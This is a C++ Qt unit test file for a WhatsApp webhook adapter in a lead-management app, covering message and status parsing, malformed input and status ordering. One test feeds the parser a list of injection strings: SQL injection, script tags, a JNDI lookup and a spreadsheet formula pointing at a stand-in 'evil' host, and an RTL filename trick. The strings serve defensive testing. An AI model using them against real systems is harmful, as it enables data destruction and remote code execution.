#include "testsupport.h"
#include "whatsappadapter.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>

using namespace LeadDesk;
using Core::InboundEvent;
using Sync::WhatsAppAdapter;

namespace {

QJsonObject metadata()
{
    return {{"display_phone_number", "15550783881"}, {"phone_number_id", "106540352242922"}};
}

// A Cloud API delivery whose single change carries `value` (metadata added).
QByteArray envelope(QJsonObject value, const QString &field = QStringLiteral("messages"))
{
    value.insert("messaging_product", "whatsapp");
    value.insert("metadata", metadata());
    const QJsonObject change{{"value", value}, {"field", field}};
    const QJsonObject entry{{"id", "102290129340398"}, {"changes", QJsonArray{change}}};
    return QJsonDocument(
               QJsonObject{{"object", "whatsapp_business_account"}, {"entry", QJsonArray{entry}}})
        .toJson();
}

QJsonObject contact(const QString &waId, const QString &name)
{
    return {{"profile", QJsonObject{{"name", name}}}, {"wa_id", waId}};
}

QJsonObject message(const QString &id, const QString &type, const QJsonObject &content,
                    const QString &from = QStringLiteral("16505551234"))
{
    QJsonObject m{{"from", from}, {"id", id}, {"timestamp", "1739321024"}, {"type", type}};
    if (!content.isEmpty())
        m.insert(type, content);
    return m;
}

QByteArray inbound(const QJsonObject &msg)
{
    return envelope({{"contacts", QJsonArray{contact("16505551234", "Dana Whitfield")}},
                     {"messages", QJsonArray{msg}}});
}

InboundEvent single(const QByteArray &body)
{
    auto events = WhatsAppAdapter::parse(body);
    if (!events) {
        qWarning("parse failed: %s", qPrintable(events.error().toString()));
        return {};
    }
    if (events->size() != 1) {
        qWarning("expected one event, got %d", int(events->size()));
        return {};
    }
    return events->first();
}

} // namespace

class tst_WhatsAppAdapter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void inboundTextFixture();
    void statusFixtures_data();
    void statusFixtures();
    void failedStatusFixture();
    void systemErrorsAreNotEvents();
    void interactiveReplies();
    void templateButton();
    void media_data();
    void media();
    void locationContactsReaction();
    void unsupportedAndUnknownTypesAreKept();
    void contextAndReferralAreKept();
    void batchMatchesNamesByWaId();
    void numbersWhereStringsAreUsual();
    void injectionStringsAreKeptVerbatim_data();
    void injectionStringsAreKeptVerbatim();
    void unknownFieldsAreIgnored();
    void otherFieldsAndStatusesAreSkipped();
    void playedReadsAsRead();
    void malformedBodies_data();
    void malformedBodies();
    void missingRequiredFields_data();
    void missingRequiredFields();
    void dedupeKeys();
    void statusesNeverRegress_data();
    void statusesNeverRegress();
};

void tst_WhatsAppAdapter::inboundTextFixture()
{
    const InboundEvent e = single(Test::readFixture("whatsapp_inbound_text.json"));
    QCOMPARE(e.kind, InboundEvent::Kind::Message);
    QCOMPARE(e.channel, QStringLiteral("whatsapp"));
    QCOMPARE(e.externalId,
             QStringLiteral("wamid.HBgLMTY1MDU1NTEyMzQVAgASGBQzQUFGRjEyMzQ1Njc4OTBBQkNEAA=="));
    QCOMPARE(e.senderId, QStringLiteral("16505551234"));
    QCOMPARE(e.threadId, QStringLiteral("16505551234"));
    QCOMPARE(e.senderName, QStringLiteral("Dana Whitfield"));
    QCOMPARE(e.recipientId, QStringLiteral("106540352242922"));
    QCOMPARE(e.occurredAtMs, 1739321024000LL);
    QCOMPARE(e.body, QStringLiteral("Hi, is the 30-year fixed rate still 6.1%?"));
    QCOMPARE(e.extra.value("type").toString(), QStringLiteral("text"));
    QVERIFY(e.media.isEmpty());
    QCOMPARE(e.lead.fullName, QStringLiteral("Dana Whitfield"));
    QCOMPARE(e.lead.phone, QStringLiteral("+16505551234"));
    QCOMPARE(e.lead.channel, QStringLiteral("whatsapp"));
}

void tst_WhatsAppAdapter::statusFixtures_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<QString>("status");
    QTest::addColumn<qint64>("at");
    QTest::newRow("sent") << "whatsapp_status_sent.json"
                          << "sent" << 1739321100000LL;
    QTest::newRow("delivered") << "whatsapp_status_delivered.json"
                               << "delivered" << 1739321102000LL;
    QTest::newRow("read") << "whatsapp_status_read.json"
                          << "read" << 1739321160000LL;
}

void tst_WhatsAppAdapter::statusFixtures()
{
    QFETCH(QString, fixture);
    QFETCH(QString, status);
    QFETCH(qint64, at);
    const InboundEvent e = single(Test::readFixture(fixture));
    QCOMPARE(e.kind, InboundEvent::Kind::DeliveryStatus);
    QCOMPARE(e.externalId,
             QStringLiteral("wamid.HBgLMTY1MDU1NTEyMzQVAgARGBI5QTNDQTVCM0Q0Q0Q2RTY3RTcA"));
    QCOMPARE(e.status, status);
    QCOMPARE(e.occurredAtMs, at);
    QCOMPARE(e.threadId, QStringLiteral("16505551234"));
    QCOMPARE(e.recipientId, QStringLiteral("106540352242922"));
    QVERIFY(e.errorCode.isEmpty());
    if (status != QLatin1String("read")) {
        QCOMPARE(e.extra.value("pricing").toObject().value("category").toString(),
                 QStringLiteral("service"));
        QCOMPARE(e.extra.value("conversation").toObject().value("id").toString(),
                 QStringLiteral("f5fdae3920125a39a1e6a23e5f877c16"));
    }
}

void tst_WhatsAppAdapter::failedStatusFixture()
{
    const InboundEvent e = single(Test::readFixture("whatsapp_status_failed.json"));
    QCOMPARE(e.kind, InboundEvent::Kind::DeliveryStatus);
    QCOMPARE(e.status, QStringLiteral("failed"));
    QCOMPARE(e.externalId,
             QStringLiteral("wamid.HBgLMTY1MDU1NTEyMzQVAgARGBJGNEU1RDZDN0I4QTk5MDAxMjMA"));
    QCOMPARE(e.errorCode, QStringLiteral("131047"));
    QVERIFY(e.errorText.startsWith(QStringLiteral("Re-engagement message: ")));
    QVERIFY(e.errorText.contains(QStringLiteral("more than 24 hours")));
    QCOMPARE(e.extra.value("errors").toArray().size(), 1);
}

void tst_WhatsAppAdapter::systemErrorsAreNotEvents()
{
    auto events = WhatsAppAdapter::parse(Test::readFixture("whatsapp_webhook_value_errors.json"));
    LD_VERIFY_OK(events);
    QVERIFY(events->isEmpty());
}

void tst_WhatsAppAdapter::interactiveReplies()
{
    const InboundEvent button = single(inbound(
        message("wamid.b1", "interactive",
                {{"type", "button_reply"},
                 {"button_reply", QJsonObject{{"id", "book-call"}, {"title", "Book a call"}}}})));
    QCOMPARE(button.body, QStringLiteral("Book a call"));
    QCOMPARE(button.extra.value("interactive_type").toString(), QStringLiteral("button_reply"));
    QCOMPARE(button.extra.value("reply_id").toString(), QStringLiteral("book-call"));

    const InboundEvent list
        = single(inbound(message("wamid.l1", "interactive",
                                 {{"type", "list_reply"},
                                  {"list_reply", QJsonObject{{"id", "refi-30"},
                                                             {"title", "30-year refinance"},
                                                             {"description", "Fixed rate"}}}})));
    QCOMPARE(list.body, QStringLiteral("30-year refinance"));
    QCOMPARE(list.extra.value("interactive_type").toString(), QStringLiteral("list_reply"));
    QCOMPARE(list.extra.value("reply_id").toString(), QStringLiteral("refi-30"));
    QCOMPARE(list.extra.value("reply_description").toString(), QStringLiteral("Fixed rate"));
}

void tst_WhatsAppAdapter::templateButton()
{
    const InboundEvent e = single(inbound(
        message("wamid.t1", "button", {{"payload", "STOP_PROMOS"}, {"text", "Stop promotions"}})));
    QCOMPARE(e.kind, InboundEvent::Kind::Message);
    QCOMPARE(e.body, QStringLiteral("Stop promotions"));
    QCOMPARE(e.extra.value("button_payload").toString(), QStringLiteral("STOP_PROMOS"));
}

void tst_WhatsAppAdapter::media_data()
{
    QTest::addColumn<QString>("type");
    QTest::addColumn<QJsonObject>("content");
    QTest::addColumn<QString>("caption");
    QTest::newRow("image") << "image"
                           << QJsonObject{{"caption", "My paystub"},
                                          {"mime_type", "image/jpeg"},
                                          {"sha256",
                                           "IeHfGyMTZ0AXZMC0VtEoGXXaAJPPOBWnhBgKabH+ckA="},
                                          {"id", "1013859600285441"}}
                           << "My paystub";
    QTest::newRow("document") << "document"
                              << QJsonObject{{"caption", "W-2 2024"},
                                             {"filename", "w2-2024.pdf"},
                                             {"mime_type", "application/pdf"},
                                             {"sha256", "abc="},
                                             {"id", "2222"}}
                              << "W-2 2024";
    QTest::newRow("audio") << "audio"
                           << QJsonObject{{"mime_type", "audio/ogg; codecs=opus"},
                                          {"sha256", "x="},
                                          {"id", "3333"},
                                          {"voice", true}}
                           << "";
    QTest::newRow("video") << "video"
                           << QJsonObject{{"mime_type", "video/mp4"},
                                          {"sha256", "y="},
                                          {"id", "4444"}}
                           << "";
    QTest::newRow("sticker") << "sticker"
                             << QJsonObject{{"mime_type", "image/webp"},
                                            {"sha256", "z="},
                                            {"id", "5555"},
                                            {"animated", false}}
                             << "";
}

void tst_WhatsAppAdapter::media()
{
    QFETCH(QString, type);
    QFETCH(QJsonObject, content);
    QFETCH(QString, caption);
    const InboundEvent e = single(inbound(message("wamid.m1", type, content)));
    QCOMPARE(e.kind, InboundEvent::Kind::Message);
    QCOMPARE(e.body, caption);
    QCOMPARE(e.media.value("type").toString(), type);
    QCOMPARE(e.media.value("id").toString(), content.value("id").toString());
    QCOMPARE(e.media.value("mime_type").toString(), content.value("mime_type").toString());
    QCOMPARE(e.media.value("sha256").toString(), content.value("sha256").toString());
    QVERIFY(!e.media.contains("caption")); // the caption is the body
    if (content.contains("filename"))
        QCOMPARE(e.media.value("filename").toString(), content.value("filename").toString());
    if (content.contains("voice"))
        QCOMPARE(e.media.value("voice").toBool(), true);
}

void tst_WhatsAppAdapter::locationContactsReaction()
{
    const InboundEvent location
        = single(inbound(message("wamid.loc", "location",
                                 {{"latitude", 39.9612},
                                  {"longitude", -82.9988},
                                  {"name", "Main office"},
                                  {"address", "100 E Broad St, Columbus, OH"}})));
    QCOMPARE(location.body, QStringLiteral("Main office, 100 E Broad St, Columbus, OH"));
    QCOMPARE(location.extra.value("location").toObject().value("latitude").toDouble(), 39.9612);

    const QJsonArray cards{QJsonObject{
        {"name", QJsonObject{{"formatted_name", "Sam Ortiz"}, {"first_name", "Sam"}}},
        {"phones", QJsonArray{QJsonObject{{"phone", "+1 614 555 0100"}, {"type", "CELL"}}}}}};
    QJsonObject contacts = message("wamid.vc", "contacts", {});
    contacts.insert("contacts", cards);
    const InboundEvent shared = single(inbound(contacts));
    QCOMPARE(shared.extra.value("contacts").toArray(), cards);

    const InboundEvent reaction = single(inbound(
        message("wamid.r1", "reaction", {{"message_id", "wamid.ours"}, {"emoji", "\U0001F44D"}})));
    QCOMPARE(reaction.body, QStringLiteral("\U0001F44D"));
    QCOMPARE(reaction.extra.value("reaction").toObject().value("message_id").toString(),
             QStringLiteral("wamid.ours"));
}

void tst_WhatsAppAdapter::unsupportedAndUnknownTypesAreKept()
{
    QJsonObject unsupported = message("wamid.u1", "unsupported", {});
    unsupported.insert(
        "errors", QJsonArray{QJsonObject{{"code", 131051}, {"title", "Message type unknown"}}});
    const InboundEvent u = single(inbound(unsupported));
    QCOMPARE(u.kind, InboundEvent::Kind::Message);
    QCOMPARE(u.extra.value("type").toString(), QStringLiteral("unsupported"));
    QCOMPARE(u.extra.value("errors").toArray().first().toObject().value("code").toInt(), 131051);

    const InboundEvent order = single(
        inbound(message("wamid.o1", "order", {{"catalog_id", "123"}, {"text", "two please"}})));
    QCOMPARE(order.extra.value("type").toString(), QStringLiteral("order"));
    QCOMPARE(order.extra.value("order").toObject().value("catalog_id").toString(),
             QStringLiteral("123"));
}

void tst_WhatsAppAdapter::contextAndReferralAreKept()
{
    QJsonObject m = message("wamid.c1", "text", {{"body", "Yes please"}});
    m.insert("context", QJsonObject{{"from", "15550783881"}, {"id", "wamid.ours"}});
    m.insert("referral", QJsonObject{{"source_url", "https://fb.me/abc"},
                                     {"source_id", "238470000000001"},
                                     {"source_type", "ad"},
                                     {"headline", "Refinance today"},
                                     {"ctwa_clid", "ARAkLkA"}});
    const InboundEvent e = single(inbound(m));
    QCOMPARE(e.extra.value("context").toObject().value("id").toString(),
             QStringLiteral("wamid.ours"));
    QCOMPARE(e.extra.value("referral").toObject().value("source_id").toString(),
             QStringLiteral("238470000000001"));
}

void tst_WhatsAppAdapter::batchMatchesNamesByWaId()
{
    const QJsonArray contacts{contact("16505550001", "Ana"), contact("16505550002", "Ben")};
    const QJsonArray messages{
        message("wamid.1", "text", {{"body", "from Ben"}}, "16505550002"),
        message("wamid.2", "text", {{"body", "from Ana"}}, "16505550001"),
        message("wamid.3", "text", {{"body", "from a stranger"}}, "16505550003")};
    const QJsonArray statuses{QJsonObject{{"id", "wamid.out"},
                                          {"status", "delivered"},
                                          {"timestamp", "1739321102"},
                                          {"recipient_id", "16505550001"}}};
    auto events = WhatsAppAdapter::parse(
        envelope({{"contacts", contacts}, {"messages", messages}, {"statuses", statuses}}));
    LD_VERIFY_OK(events);
    QCOMPARE(events->size(), 4);
    QCOMPARE(events->at(0).senderName, QStringLiteral("Ben"));
    QCOMPARE(events->at(1).senderName, QStringLiteral("Ana"));
    QCOMPARE(events->at(2).senderName, QString());
    QCOMPARE(events->at(3).kind, InboundEvent::Kind::DeliveryStatus);
}

void tst_WhatsAppAdapter::numbersWhereStringsAreUsual()
{
    QJsonObject m = message("wamid.n1", "text", {{"body", "hi"}});
    m.insert("timestamp", 1739321024);
    m.insert("from", 16505551234.0);
    const InboundEvent e = single(envelope({{"messages", QJsonArray{m}}}));
    QCOMPARE(e.occurredAtMs, 1739321024000LL);
    QCOMPARE(e.senderId, QStringLiteral("16505551234"));
}

void tst_WhatsAppAdapter::injectionStringsAreKeptVerbatim_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("sql") << "Robert'); DROP TABLE leads;--";
    QTest::newRow("html") << "<script>alert('x')</script><img src=x onerror=alert(1)>";
    QTest::newRow("template") << "{{7*7}} ${jndi:ldap://evil/a} %s%n";
    QTest::newRow("csv formula") << "=HYPERLINK(\"http://evil\",\"click\")";
    QTest::newRow("control characters") << QString::fromUtf8("line1\r\nline2\t\u0007end");
    QTest::newRow("nul") << QString(QStringLiteral("a") + QChar(0) + QStringLiteral("b"));
    QTest::newRow("rtl and emoji") << QString::fromUtf8("\u202Egnp.exe \U0001F600 \u00e9\u4e2d");
    QTest::newRow("json in text") << R"({"object":"page","entry":[]})";
}

void tst_WhatsAppAdapter::injectionStringsAreKeptVerbatim()
{
    QFETCH(QString, text);
    const QByteArray body
        = envelope({{"contacts", QJsonArray{contact("16505551234", text)}},
                    {"messages", QJsonArray{message("wamid.inj", "text", {{"body", text}})}}});
    const InboundEvent e = single(body);
    QCOMPARE(e.body, text);
    QCOMPARE(e.senderName, text);
    QCOMPARE(e.lead.fullName, text);
}

void tst_WhatsAppAdapter::unknownFieldsAreIgnored()
{
    QJsonObject m = message("wamid.x1", "text", {{"body", "hello"}, {"future_flag", true}});
    m.insert("brand_new_field", QJsonObject{{"nested", QJsonArray{1, 2, 3}}});
    QJsonObject value{{"messages", QJsonArray{m}},
                      {"contacts", QJsonArray{contact("16505551234", "Dana")}},
                      {"unknown_list", QJsonArray{"a"}}};
    QByteArray body = envelope(value);
    body.replace(R"("object")", R"("api_version": "v99.0", "object")");
    const InboundEvent e = single(body);
    QCOMPARE(e.body, QStringLiteral("hello"));
    QCOMPARE(e.senderName, QStringLiteral("Dana"));
}

void tst_WhatsAppAdapter::otherFieldsAndStatusesAreSkipped()
{
    auto events
        = WhatsAppAdapter::parse(envelope({{"event", "APPROVED"}, {"message_template_id", 12345}},
                                          QStringLiteral("message_template_status_update")));
    LD_VERIFY_OK(events);
    QVERIFY(events->isEmpty());

    const QJsonArray statuses{QJsonObject{{"id", "wamid.out"},
                                          {"status", "deleted"},
                                          {"timestamp", "1739321102"},
                                          {"recipient_id", "16505551234"}}};
    events = WhatsAppAdapter::parse(envelope({{"statuses", statuses}}));
    LD_VERIFY_OK(events);
    QVERIFY(events->isEmpty());
}

void tst_WhatsAppAdapter::playedReadsAsRead()
{
    const QJsonArray statuses{QJsonObject{{"id", "wamid.voice"},
                                          {"status", "played"},
                                          {"timestamp", "1739321102"},
                                          {"recipient_id", "16505551234"}}};
    const InboundEvent e = single(envelope({{"statuses", statuses}}));
    QCOMPARE(e.status, QStringLiteral("read"));
    QCOMPARE(e.extra.value("meta_status").toString(), QStringLiteral("played"));
}

void tst_WhatsAppAdapter::malformedBodies_data()
{
    const QByteArray good = Test::readFixture("whatsapp_inbound_text.json");
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<QString>("reason");
    QTest::newRow("empty") << QByteArray() << "empty";
    QTest::newRow("whitespace") << QByteArray(" \n") << "empty";
    QTest::newRow("truncated") << good.left(good.size() / 2) << "not valid JSON";
    QTest::newRow("not json") << QByteArray("hub.mode=subscribe") << "not valid JSON";
    QTest::newRow("trailing garbage") << good + "}"
                                      << "not valid JSON";
    QTest::newRow("array") << QByteArray("[{\"object\":\"whatsapp_business_account\"}]")
                           << "not a JSON object";
    QTest::newRow("invalid utf-8") << QByteArray(good).replace("Dana", "D\xff\xfe"
                                                                       "a")
                                   << "not valid JSON";
    QTest::newRow("overlong utf-8") << QByteArray(good).replace("Dana", "D\xc0\xaf"
                                                                        "a")
                                    << "not valid JSON";
    QByteArray deep = "{\"object\":\"whatsapp_business_account\",\"entry\":";
    deep += QByteArray(5000, '[') + QByteArray(5000, ']') + "}";
    QTest::newRow("deeply nested") << deep << "not valid JSON";
    QTest::newRow("wrong object") << QByteArray(R"({"object":"page","entry":[]})") << "object";
    QTest::newRow("no object") << QByteArray(R"({"entry":[]})") << "object";
    QTest::newRow("no entry") << QByteArray(R"({"object":"whatsapp_business_account"})") << "entry";
    QTest::newRow("entry not array")
        << QByteArray(R"({"object":"whatsapp_business_account","entry":{}})") << "entry";
}

void tst_WhatsAppAdapter::malformedBodies()
{
    QFETCH(QByteArray, body);
    QFETCH(QString, reason);
    auto events = WhatsAppAdapter::parse(body);
    QVERIFY(!events);
    QVERIFY2(events.error().toString().contains(reason), qPrintable(events.error().toString()));
}

void tst_WhatsAppAdapter::missingRequiredFields_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<QString>("field");
    const QJsonObject good = message("wamid.ok", "text", {{"body", "hi"}});
    for (const char *key : {"id", "from", "timestamp", "type"}) {
        QJsonObject m = good;
        m.remove(QLatin1String(key));
        QTest::newRow(key) << envelope({{"messages", QJsonArray{good, m}}})
                           << QStringLiteral("entry[0].changes[0].value.messages[1].") + key;
    }
    QJsonObject blankId = good;
    blankId.insert("id", "");
    QTest::newRow("blank id") << envelope({{"messages", QJsonArray{blankId}}})
                              << "entry[0].changes[0].value.messages[0].id";
    QJsonObject badTime = good;
    badTime.insert("timestamp", "yesterday");
    QTest::newRow("bad timestamp") << envelope({{"messages", QJsonArray{badTime}}})
                                   << "entry[0].changes[0].value.messages[0].timestamp";
    QTest::newRow("message not object") << envelope({{"messages", QJsonArray{"wamid.x"}}})
                                        << "entry[0].changes[0].value.messages[0]";
    const QJsonObject status{{"id", "wamid.s"}, {"status", "read"}, {"timestamp", "1739321102"}};
    for (const char *key : {"id", "status", "timestamp"}) {
        QJsonObject s = status;
        s.remove(QLatin1String(key));
        QTest::newRow(qPrintable(QStringLiteral("status ") + key))
            << envelope({{"statuses", QJsonArray{s}}})
            << QStringLiteral("entry[0].changes[0].value.statuses[0].") + key;
    }
}

void tst_WhatsAppAdapter::missingRequiredFields()
{
    QFETCH(QByteArray, body);
    QFETCH(QString, field);
    auto events = WhatsAppAdapter::parse(body);
    QVERIFY(!events);
    QCOMPARE(events.error().field, field);
}

void tst_WhatsAppAdapter::dedupeKeys()
{
    const InboundEvent message = single(Test::readFixture("whatsapp_inbound_text.json"));
    QCOMPARE(WhatsAppAdapter::dedupeKey(message), message.externalId);
    const InboundEvent delivered = single(Test::readFixture("whatsapp_status_delivered.json"));
    const InboundEvent read = single(Test::readFixture("whatsapp_status_read.json"));
    QCOMPARE(delivered.externalId, read.externalId);
    QVERIFY(WhatsAppAdapter::dedupeKey(delivered) != WhatsAppAdapter::dedupeKey(read));
    QCOMPARE(WhatsAppAdapter::dedupeKey(read), read.externalId + QStringLiteral("#read"));
}

void tst_WhatsAppAdapter::statusesNeverRegress_data()
{
    QTest::addColumn<QString>("current");
    QTest::addColumn<QString>("incoming");
    QTest::addColumn<bool>("advances");
    QTest::newRow("queued->sent") << "queued"
                                  << "sent" << true;
    QTest::newRow("sent->delivered") << "sent"
                                     << "delivered" << true;
    QTest::newRow("sent->read (delivered skipped)") << "sent"
                                                    << "read" << true;
    QTest::newRow("delivered->read") << "delivered"
                                     << "read" << true;
    QTest::newRow("read->delivered (late)") << "read"
                                            << "delivered" << false;
    QTest::newRow("read->sent (late)") << "read"
                                       << "sent" << false;
    QTest::newRow("delivered->sent (late)") << "delivered"
                                            << "sent" << false;
    QTest::newRow("read->read (redelivery)") << "read"
                                             << "read" << false;
    QTest::newRow("sent->failed") << "sent"
                                  << "failed" << true;
    QTest::newRow("failed->sent (late)") << "failed"
                                         << "sent" << false;
    QTest::newRow("failed->delivered") << "failed"
                                       << "delivered" << false;
    QTest::newRow("read->failed") << "read"
                                  << "failed" << false;
    QTest::newRow("sent->bogus") << "sent"
                                 << "bogus" << false;
}

void tst_WhatsAppAdapter::statusesNeverRegress()
{
    QFETCH(QString, current);
    QFETCH(QString, incoming);
    QFETCH(bool, advances);
    QCOMPARE(WhatsAppAdapter::statusAdvances(current, incoming), advances);
}

QTEST_GUILESS_MAIN(tst_WhatsAppAdapter)
#include "tst_whatsappadapter.moc"
